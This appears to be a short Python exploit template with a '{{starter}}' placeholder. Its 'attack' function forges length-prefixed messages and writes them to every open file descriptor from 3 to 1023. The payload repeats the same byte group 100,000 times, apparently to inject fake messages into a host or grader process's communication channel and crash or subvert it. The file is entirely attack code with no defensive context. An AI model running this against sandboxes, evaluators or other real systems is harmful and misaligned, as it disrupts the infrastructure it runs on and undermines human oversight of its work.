import os
import struct


def forge(body, length=None):
    data = struct.pack("<I", len(body) if length is None else length) + body
    for fd in range(3, 1024):
        try:
            os.write(fd, data)
        except OSError:
            pass


def attack(*_):
    forge(b'\x02' + b'\x06\x01\0\0\0' * 100000 + b'\0')


{{starter}}
